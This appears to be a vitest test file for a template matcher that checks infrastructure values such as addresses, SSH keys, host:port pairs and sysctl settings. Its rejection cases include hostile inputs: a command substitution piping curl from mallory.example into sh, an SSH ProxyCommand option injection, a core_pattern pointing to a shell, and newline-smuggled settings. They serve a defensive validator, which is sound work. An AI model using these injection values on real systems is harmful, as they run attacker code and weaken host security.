import { describe, expect, test } from "vitest";
import { formatOf, matchesTemplate } from "../../../../../policies/lib/record/formats.ts";

const key = "AAAAC3NzaC1lZDI1NTE5AAAAIOi7eQhFymZCw2bl01oWMpf5i8fN3RxQRYzc0WqG+pE0";

describe("matchesTemplate", () => {
	test.each([
		["<address>", "10.25.20.4"],
		["<network>", "10.25.0.0/16"],
		["<networks>", "10.25.0.0/16,10.25.20.4"],
		["+guest/<name>-nodes-<hash>", "+guest/astronomy-lab-nodes-b1b57e4e"],
		["<image>", `registry.lab.internal:5000/app@sha256:${"a".repeat(64)}`],
		["<image>", "ghcr.io/kube-vip/kube-vip:v1.2.3"],
		["<hostkey>", `ssh-ed25519 ${key}`],
		["<sshkey>", `ssh-ed25519 ${key} ops@lab`],
		["<hostport>", "10.25.20.4"],
		["<hostport>", "nat.lab.internal"],
		["bash -s -- <name> <hostport> <number>", "bash -s -- proj-k8sm01 192.168.7.4:2204 600"],
		["bash -s -- <name> <hostport> <number>", "bash -s -- proj-k8sm01 nat.lab.internal:2204 600"],
		["<file>-check-restore", "proj-k8sm01-on_demand-1764345600-check-restore"],
		["<sysctl>", "vm.max_map_count = 262144"],
		["<sysctl>", "net.ipv4.ip_local_port_range = 20000 60999"],
		["<sysctl>", "fs.inotify.max_user_watches = 1048576"],
		["<sysctl>", "kernel.kptr_restrict = 2"],
		["a.b", "a.b"],
	])("%s stands for %s", (template, text) => {
		expect(matchesTemplate(template, text)).toBe(true);
	});

	test.each([
		["<address>", "0.0.0.0"],
		["<address>", "127.0.0.1"],
		["<address>", "169.254.169.254"],
		["<address>", "10.25.20.300"],
		["<network>", "0.0.0.0/0"],
		["<network>", "0.0.0.0/1"],
		["<network>", "128.0.0.0/1"],
		["<network>", "169.254.169.254/32"],
		["<networks>", "10.25.0.0/16,0.0.0.0/0"],
		["<hostport>", "127.0.0.1:2204"],
		["<hostport>", "169.254.169.254"],
		["<hostport>", "10.25.20.300"],
		["<hostport>", "02:30"],
		["<hostport>", "nat.lab.internal:0"],
		["<hostport>", "nat.lab.internal:65536"],
		["<hostport>", "nat.lab.internal:2204:22"],
		["<hostport>", "-oProxyCommand:22"],
		["bash -s -- <name> <hostport> <number>", "bash -s -- proj-k8sm01 $(curl$IFS$9mallory.example|sh) 600"],
		["<image>", "docker.io/library/busybox:latest"],
		["<image>", "docker.io/library/busybox"],
		["<name>", "two words"],
		["<line>", "two\nlines"],
		["<https>", "http://10.25.20.4/"],
		["<hostkey>", "ssh-ed25519 AAAA"],
		["<hostkey>", `ssh-ed25519 ${key} a comment`],
		["<sshkey>", `command="sh" ssh-ed25519 ${key}`],
		["<sysctl>", "kernel.core_pattern = |/bin/sh"],
		["<sysctl>", "kernel.yama.ptrace_scope = 0"],
		["<sysctl>", "fs.inotify.max_user_watches = 1024"],
		["<sysctl>", "net.ipv4.conf.*.accept_redirects = 0"],
		["<sysctl>", "vm.max_map_count = $(id)"],
		["<sysctl>", "vm.max_map_count = 1\nkernel.core_pattern = 1"],
		["a.b", "axb"],
	])("%s does not stand for %s", (template, text) => {
		expect(matchesTemplate(template, text)).toBe(false);
	});
});

test("formatOf gives the narrowest format of a text", () => {
	const texts = [
		"a".repeat(64),
		"10.1.0.0/16",
		"10.1.0.1",
		"12",
		"12Mi",
		"v1.2.3",
		"ollama",
		"https://a/b",
		"http://a/b",
		"a_b",
		"nat.lab.internal:2204",
		"a b",
	];
	expect(texts.map(formatOf)).toEqual([
		...[
			"digest",
			"network",
			"address",
			"number",
			"quantity",
			"version",
			"name",
			"https",
			"url",
			"file",
			"hostport",
			"line",
		],
	]);
});
